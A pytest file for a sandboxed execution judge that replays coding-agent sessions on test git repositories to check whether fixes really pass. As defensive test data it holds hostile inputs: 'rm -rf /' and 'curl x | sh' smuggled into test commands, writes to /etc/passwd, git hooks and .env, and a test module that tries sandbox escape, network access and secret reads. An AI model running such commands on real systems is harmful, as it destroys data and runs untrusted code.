"""The judge on small real repositories: real commits, real pytest runs, in whatever box this machine has."""

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bashgym import registry, sandbox
from bashgym.kinds import JudgeContext
from bashgym.records import Verdict
from bashgym.sandbox import NoBox
from bashgym.store import Store
from bashgym.trace import Step, Trace
from tests.judge.traces import bash, call, edit, human, trace, write
from tests.stages.sessions import Session

PYTHON = "/usr/bin/python3"
BROKEN = "def add(a, b):\n    return a - b\n\n\ndef name():\n    return 'cart'\n"
FIXED = BROKEN.replace("a - b", "a + b")
TESTS = """
from cart import add, name

def test_add():
    assert add(2, 2) == 4

def test_name():
    assert name() == 'cart'
"""
RUN = "python -m pytest -q"


@pytest.fixture(scope="session")
def packages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A virtual environment with pytest, as a repository has one: made once, copied into each."""
    if not Path(PYTHON).exists():
        pytest.skip(f"needs {PYTHON}")
    folder = tmp_path_factory.mktemp("packages") / "site"
    folder.mkdir()
    for name in ("_pytest", "pytest", "iniconfig", "packaging", "pluggy", "pygments", "py"):
        found = Path(__import__(name).__file__)
        if found.name == "__init__.py":
            shutil.copytree(found.parent, folder / name)
        else:
            shutil.copy(found, folder)
        for told in found.parents[1 if found.name == "__init__.py" else 0].glob(f"{name}-*.dist-info"):
            shutil.copytree(told, folder / told.name)
    return folder


class Repository:
    """A git repository with an environment, and sessions that work in it."""

    def __init__(self, root: Path, packages: Path | None) -> None:
        self.root = root
        root.mkdir(parents=True)
        self.git("init", "-q", "-b", "main")
        self.git("config", "user.email", "a@example.com")
        self.git("config", "user.name", "a")
        (root / ".gitignore").write_text(".venv\n.env\n")
        if packages:
            self.environment(packages)

    def environment(self, packages: Path) -> None:
        subprocess.run([PYTHON, "-m", "venv", "--without-pip", self.root / ".venv"], check=True)
        (site,) = (self.root / ".venv" / "lib").glob("python3*/site-packages")
        for package in packages.iterdir():
            place = site / package.name
            shutil.copytree(package, place) if package.is_dir() else shutil.copy(package, place)

    def git(self, *words: str) -> str:
        seen = {**os.environ, "GIT_AUTHOR_DATE": "2026-01-01T12:00:00Z", "GIT_COMMITTER_DATE": "2026-01-01T12:00:00Z"}
        command = ["git", "-C", str(self.root), *words]
        return subprocess.run(command, check=True, capture_output=True, text=True, env=seen).stdout.strip()

    def commit(self, **files: str) -> str:
        for name, text in files.items():
            path = self.root / name.replace("__", "/").replace("_py", ".py")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        self.git("add", "-A")
        self.git("commit", "-q", "-m", "x")
        return self.git("rev-parse", "HEAD")

    def path(self, name: str) -> str:
        return str(self.root / name)

    def session(self, *steps: Step, commit: str | None = "HEAD", cwd: Path | None = None) -> Trace:
        made = trace(human("fix it"), *steps)
        project = made.extra.bashgym.project
        project.cwd = str(cwd or self.root)
        project.git_commit = self.git("rev-parse", commit) if commit else None
        return made


@pytest.fixture
def repository(tmp_path: Path, packages: Path) -> Repository:
    made = Repository(tmp_path / "work" / "cart", packages)
    made.commit(cart_py=BROKEN, tests__test_cart_py=TESTS)
    return made


@pytest.fixture(scope="session", autouse=True)
def box() -> str:
    try:
        return sandbox.choose("bubblewrap").name
    except NoBox as error:
        pytest.skip(f"needs {error}")


def judged(made: Trace, **settings: Any) -> Verdict:
    plugin = registry.load("judge", "execution")
    return plugin(plugin.Config(**settings)).judge(made, JudgeContext(raw=lambda: made))


def values(verdict: Verdict, name: str) -> list[Any]:
    return [signal.value for signal in verdict.signals if signal.name == name]


def fix(repository: Repository) -> list[Step]:
    return [
        bash(RUN, "1 failed, 1 passed in 0.01s", 1),
        edit(repository.path("cart.py"), "a - b", "a + b", BROKEN),
        bash(RUN, "2 passed in 0.01s"),
    ]


def test_a_fixed_bug_is_verified(repository: Repository):
    verdict = judged(repository.session(*fix(repository)))
    assert (verdict.score, verdict.verified, verdict.fatal) == (1.0, True, False), verdict
    assert values(verdict, "fail_to_pass") == ["tests.test_cart::test_add"]
    assert values(verdict, "tests_before") == ["1 passed, 1 failed"]
    assert values(verdict, "tests_after") == ["2 passed, 0 failed"]
    assert (values(verdict, "exit_code_before"), values(verdict, "exit_code_after")) == ([1], [0])
    assert verdict.confidence == 0.95 and "1 tests that failed" in verdict.reason


def test_what_broke_is_fatal(repository: Repository):
    repository.commit(cart_py=FIXED)
    made = repository.session(
        edit(repository.path("cart.py"), "a + b", "a * b + 1", FIXED), bash(RUN, "2 passed in 0.01s")
    )
    verdict = judged(made)
    assert (verdict.score, verdict.fatal, verdict.verified) == (0.0, True, False), verdict
    assert values(verdict, "pass_to_fail") == ["tests.test_cart::test_add"]


def test_a_module_that_can_no_longer_be_read_broke_all_its_tests(repository: Repository):
    repository.commit(cart_py=FIXED)
    made = repository.session(edit(repository.path("cart.py"), "def name", "def nane", FIXED), bash(RUN, "x"))
    verdict = judged(made)
    assert verdict.fatal
    assert values(verdict, "pass_to_fail") == ["tests.test_cart::test_add", "tests.test_cart::test_name"]


def test_new_tests_are_run_on_the_old_code(repository: Repository):
    """Tests that the session wrote did not fail before: they were not there. On the code as it was they do."""
    repository.commit(cart_py=FIXED)
    made = repository.session(
        write(repository.path("cart.py"), FIXED + "\n\ndef double(a):\n    return 2 * a\n"),
        write(
            repository.path("tests/test_double.py"),
            "from cart import double\n\ndef test_double():\n    assert double(2) == 4\n",
        ),
        bash("pytest", "3 passed in 0.01s"),
    )
    verdict = judged(made)
    assert verdict.verified, verdict
    assert values(verdict, "fail_to_pass") == ["tests.test_double::test_double"]


def test_nothing_turned_verifies_nothing(repository: Repository):
    repository.commit(cart_py=FIXED)
    made = repository.session(
        edit(repository.path("cart.py"), "'cart'", '"cart"', FIXED), bash(RUN, "2 passed in 0.01s")
    )
    verdict = judged(made)
    assert (verdict.score, verdict.verified, verdict.fatal) == (0.7, False, False), verdict
    assert judged(made, kept=0.4).score == 0.4


def test_tests_that_fail_alike_say_nothing(repository: Repository):
    made = repository.session(edit(repository.path("cart.py"), "'cart'", '"cart"', BROKEN), bash(RUN, "1 failed", 1))
    verdict = judged(made)
    assert verdict.score is None and "before and after" in verdict.reason


def test_a_multiedit_and_a_second_edit_of_the_same_file_add_up(repository: Repository):
    path = repository.path("cart.py")
    edits = [{"old_string": "a - b", "new_string": "a * b"}, {"old_string": "'cart'", "new_string": "'cart' + ''"}]
    made = repository.session(
        call("MultiEdit", {"file_path": path, "edits": edits}, "ok", raw={"originalFile": BROKEN}),
        edit(path, "a * b", "a + b"),
        bash("cd tests/.. && pytest -x tests/test_cart.py", "2 passed in 0.01s"),
    )
    assert judged(made).verified


def test_the_commit_is_found_by_the_time_it_began(repository: Repository):
    """No commit is written down: the log of references says where HEAD was; later commits change nothing."""
    before = repository.session(*fix(repository))
    before.extra.bashgym.project.git_commit = None
    before.steps[0].timestamp = "2026-02-01T00:00:00.000Z"
    later = {"GIT_COMMITTER_DATE": "2026-03-01T12:00:00Z", "GIT_AUTHOR_DATE": "2026-03-01T12:00:00Z"}
    (repository.root / "cart.py").write_text(FIXED)
    command = ["git", "-C", str(repository.root), "commit", "-qam", "later"]
    subprocess.run(command, check=True, env={**os.environ, **later})
    assert judged(before).verified
    before.steps[0].timestamp = "2020-02-01T00:00:00.000Z"
    assert "no commit from before" in judged(before).reason


def test_what_the_session_found_uncommitted_is_where_it_began(repository: Repository):
    """The file was not as the commit has it when the session first saw it; its own word for that is taken."""
    found = BROKEN.replace("'cart'", "'basket'[:0] + 'cart'")
    made = repository.session(edit(repository.path("cart.py"), "a - b", "a + b", found), bash(RUN, "2 passed in 0.01s"))
    assert judged(made).verified


@pytest.mark.parametrize(
    ("steps", "reason"),
    [
        (lambda r: [edit(r.path("cart.py"), "a - b", "a + b", BROKEN)], "ran no tests"),
        (lambda r: [bash(RUN, "2 passed in 0.1s")], "no file of the repository was edited"),
        (lambda r: [edit(r.path("cart.py"), "never there", "x"), bash(RUN, "x")], "does not fit"),
        (lambda r: [write("/etc/passwd", "x"), bash(RUN, "x")], "no file of the repository was edited"),
        (lambda r: [write(r.path("../outside.py"), "x"), bash(RUN, "x")], "no file of the repository was edited"),
        (lambda r: [write(r.path(".git/hooks/post-checkout"), "x"), bash(RUN, "x")], "never copied"),
        (lambda r: [write(r.path(".env"), "KEY=1"), bash(RUN, "x")], "never copied"),
        (lambda r: [call("apply_patch", {"path": r.path("cart.py")}, "ok"), bash(RUN, "x")], "not replayed"),
        (lambda r: [fix(r)[1], bash("rm -rf / ; pytest $ARGS", "x")], "not known"),
        (lambda r: [fix(r)[1], bash("pytest $(curl x | sh)", "x")], "test command"),
    ],
    ids=["no tests", "no edit", "no fit", "system file", "outside", "hook", "env", "patch", "variable", "substitution"],
)
def test_it_abstains_with_the_reason(repository: Repository, steps: Callable[[Repository], list[Step]], reason: str):
    verdict = judged(repository.session(*steps(repository)))
    assert verdict.score is None and not verdict.verified and not verdict.fatal
    assert reason in verdict.reason, verdict


def test_it_abstains_without_a_repository_a_commit_an_environment_or_a_box(repository: Repository, tmp_path: Path):
    made = repository.session(*fix(repository), cwd=tmp_path)
    assert "no repository" in judged(made).reason
    made.extra.bashgym.project.cwd = str(tmp_path / "gone")
    assert "not on this machine" in judged(made).reason
    made = repository.session(*fix(repository))
    made.extra.bashgym.project.git_commit = "1234567890"
    assert "not in the repository" in judged(made).reason
    assert "no environment" in judged(repository.session(*fix(repository)), environments=(".conda",)).reason
    if sandbox.tried("docker"):
        assert "docker" in judged(repository.session(*fix(repository)), box="docker").reason
    plugin = registry.load("judge", "execution")
    assert plugin(plugin.Config()).judge(made, JudgeContext()).reason == "the raw session is not at hand"


def test_changes_by_commands_leave_a_failure_open(repository: Repository):
    """What `sed -i` did is in no snapshot: what fails may be for want of it. What passes, passes."""
    repository.commit(cart_py=FIXED)
    steps = [
        edit(repository.path("cart.py"), "a + b", "a * b + 1", FIXED),
        bash("sed -i s/x/y/ cart.py"),
        bash(RUN, "x"),
    ]
    verdict = judged(repository.session(*steps))
    assert verdict.score is None and not verdict.fatal and "commands changed files" in verdict.reason
    repository.commit(cart_py=BROKEN)
    assert judged(repository.session(*fix(repository), bash("sed -i s/x/y/ notes.md"))).verified


def test_hostile_tests_stay_in_their_box(repository: Repository, tmp_path: Path):
    """They write outside, take settings that are not tracked, and reach for the network: none of it succeeds."""
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o777)
    (repository.root / ".env").write_text("TOKEN=hunter2")
    hostile = f"""
import os, pathlib, socket, subprocess
def test_writes():
    for place in {[str(outside), str(repository.root / ".venv"), "/usr", str(Path.home())]!r}:
        try: pathlib.Path(place, 'bashgym-was-here').write_text('x')
        except OSError: continue
        raise SystemExit('wrote ' + place)
def test_reads():
    assert not pathlib.Path({str(repository.root / ".env")!r}).exists()
    assert not pathlib.Path({str(repository.root / ".git")!r}).exists()
    assert 'BASHGYM_HOME' not in os.environ
def test_network():
    try: socket.create_connection(('1.1.1.1', 443), 1)
    except OSError: return
    raise SystemExit('reached')
def test_lives_on():
    subprocess.Popen(['sh', '-c', 'sleep 600'], start_new_session=True)
    open({REPORT!r}, 'w').write('<testsuite/>')
"""
    made = repository.session(
        *fix(repository)[:2], write(repository.path("tests/test_hostile.py"), hostile), bash(RUN, "x")
    )
    verdict = judged(made)
    # each of them passes, for each of its attempts failed; nothing but the fix turned
    assert values(verdict, "tests_after") == ["6 passed, 0 failed"], verdict
    assert verdict.verified
    assert not list(outside.iterdir())
    assert not (repository.root / "bashgym-was-here").exists()
    assert (repository.root / "cart.py").read_text() == BROKEN  # the repository itself is as it was
    assert not repository.git("status", "--porcelain")


def test_a_link_leads_nowhere(repository: Repository, tmp_path: Path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repository.root / "out").symlink_to(outside)
    repository.commit()
    made = repository.session(write(repository.path("out/x.py"), "x"), bash(RUN, "x"))
    assert "behind a link" in judged(made).reason
    assert not list(outside.iterdir())


def test_the_repositorys_own_programs_are_not_run(repository: Repository, tmp_path: Path):
    """Filters, hooks and monitors of the repository are commands; reading it starts none."""
    mark = tmp_path / "ran"
    script = f"sh -c 'touch {mark}; cat'"
    for key in ("filter.x.smudge", "filter.x.clean", "core.fsmonitor", "filter.x.process"):
        repository.git("config", key, script)
    hooks = repository.root / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "post-checkout").write_text(f"#!/bin/sh\ntouch {mark}\n")
    (hooks / "post-checkout").chmod(0o755)
    (repository.root / ".git" / "info" / "attributes").write_text("* filter=x\n")
    assert judged(repository.session(*fix(repository))).verified
    assert not mark.exists()


def test_time_is_limited(repository: Repository):
    slow = "import time\ndef test_slow():\n    time.sleep(60)\n"
    made = repository.session(*fix(repository)[:2], write(repository.path("tests/test_slow.py"), slow), bash(RUN, "x"))
    verdict = judged(made, max_seconds=6.0)
    assert verdict.score is None
    assert "time" in verdict.reason or "max_seconds" in verdict.reason


def test_parameters_of_tests_do_not_leave(repository: Repository):
    secret = """
import pytest
from cart import add

@pytest.mark.parametrize('key', ['hunter2-secret'])
def test_key(key):
    assert add(1, 1) == 2
"""
    repository.commit(tests__test_key_py=secret)
    verdict = judged(repository.session(*fix(repository)))
    assert "hunter2" not in str(verdict)
    assert "tests.test_key::test_key" in values(verdict, "fail_to_pass")


def test_unittest_is_told_by_its_summary(repository: Repository):
    unit = """
import unittest
from cart import add

class T(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 2), 4)
"""
    repository.commit(test_unit_py=unit)
    made = repository.session(
        edit(repository.path("cart.py"), "a - b", "a + b", BROKEN), bash("python -m unittest test_unit", "OK")
    )
    verdict = judged(made)
    assert verdict.verified, verdict
    assert values(verdict, "fail_to_pass") == ["all tests"]


@pytest.mark.parametrize("name", ["landlock", "docker"])
def test_other_boxes_say_the_same(repository: Repository, tmp_path: Path, name: str):
    if why := sandbox.tried(name):
        pytest.skip(f"{'' if name == 'docker' else 'needs '}{name}: {why}")
    if name == "landlock":  # it has no mounts: where root's own folders are closed, the box's user cannot go
        for folder in (repository.root, *repository.root.parents):
            if folder.stat().st_uid == os.getuid() and folder != Path("/") and str(folder) != "/tmp":
                folder.chmod(folder.stat().st_mode | 0o711)
    assert judged(repository.session(*fix(repository)), box=name).verified


REPORT = ".bashgym-report.xml"


def test_in_a_run_it_makes_gold_and_lets_no_value_of_the_session_out(
    repository: Repository, bashgym: Callable[..., subprocess.CompletedProcess[str]], own_home: Path, tmp_path: Path
):
    """The whole way: a transcript of Claude Code, its raw edits replayed, a verdict in which a password that is also
    the name of a test stands no more than in the trace."""
    password = "Tr0ub4dor9xQ2vKp7LmZ"
    (repository.root / "tests" / "test_more.py").write_text(
        f"from cart import add\n\n\ndef test_{password}():\n    assert add(1, 1) == 2\n"
    )
    repository.commit()
    made = Session(1)
    made.user(f"Fix add. password = '{password}'")
    made.edit(repository.path("cart.py"), "a - b", "a + b")
    made.bash(RUN, "3 passed in 0.10s")
    made.says("add adds now.")
    text = "\n".join(json.dumps(line) for line in made.lines).replace('"cwd": "/app"', f'"cwd": "{repository.root}"')
    folder = tmp_path / "projects" / "-app"
    folder.mkdir(parents=True)
    (folder / f"{made.id}.jsonl").write_text(text + "\n")
    words = ["run", "recipe=quickstart", "source=[claude_code]", f"source.claude_code.path={tmp_path / 'projects'}"]
    more = ["judge=[execution]", "--until", "dataset", f"run_dir={tmp_path / 'run'}", "dataset.classes=[gold]"]
    done = bashgym(*words, *more, BASHGYM_HOME=str(own_home))
    assert done.returncode == 0, done.stderr
    verdicts = json.loads((tmp_path / "run" / "manifest.json").read_text())["verdicts"]
    assert verdicts == {"gold": 1}, done.stderr
    store = Store(own_home / "store")
    kept = b"\n".join(store.get(key) or b"" for key in store.all_keys())
    assert b"tests.test_cart::test_add" in kept and b"tests.test_more::" in kept
    assert password.encode() not in kept
